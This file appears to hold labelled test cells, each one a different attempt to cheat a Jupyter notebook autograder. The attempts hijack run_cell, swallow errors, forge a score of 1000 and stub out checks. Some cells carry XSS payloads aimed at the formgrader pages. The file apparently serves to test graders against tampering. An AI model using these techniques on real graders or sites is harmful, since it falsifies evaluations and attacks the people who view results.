# %% attempt="run_cell does nothing"
shell = get_ipython()
original = type(shell).run_cell
def run_cell(self, source, *args, **kwargs):
    return original(self, "" if "passed(" in source else source, *args, **kwargs)
type(shell).run_cell = run_cell
shell.run_cell = lambda source, *a, **k: original(shell, "", *a, **k)
type(shell).run_cell_async = type(shell).run_code = lambda *a, **k: None

# %% attempt="errors are not shown"
shell = get_ipython()
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
type(shell).showtraceback = type(shell)._showtraceback = lambda *a, **k: None

# %% attempt="a custom exception handler swallows errors"
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])

# %% attempt="hooks before and after every cell"
def before(info=None, *args):
    if info is not None:
        info.raw_cell = "pass"
def after(result=None, *args):
    if result is not None:
        result.error_in_exec = result.error_before_exec = None
        result.result = 1000
get_ipython().events.register("pre_run_cell", before)
get_ipython().events.register("post_run_cell", after)

# %% attempt="results forged on the display"
from IPython.display import display
class Points:
    def _repr_mimebundle_(self, *a, **k): return {"text/plain": "1000"}
    def __repr__(self): return "1000"
def cheat(*args, **kwargs):
    display(Points())
    get_ipython().displayhook(Points())
    return Points()
1000

# %% attempt="hostile HTML, SVG and scripts"
from IPython.display import HTML, SVG, Javascript, display
display(HTML("<script>fetch('/formgrader/api')</script><img src=x onerror=alert(1)>"))
display(SVG(data="<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))
display(Javascript("alert(1)"))
display({"text/html": "<b onclick=alert(1)>x</b>", "text/latex": "\\href{javascript:1}"}, raw=True)

# %% attempt="the asking process' displays patched"
import sys
sys.stdout.write("</pre><script>alert(1)</script>")
sys.displayhook = sys.excepthook = lambda *a: None
sys.stdout = sys.stderr = None

# %% attempt="trace function that ends frames early"
import sys
def trace(frame, event, arg):
    if "passed" in frame.f_code.co_names:
        frame.f_lineno = frame.f_lineno
    frame.f_globals.update(check_close=lambda *a, **k: None)
    return trace
sys.settrace(trace)
cheat = lambda *args, **kwargs: 0.0
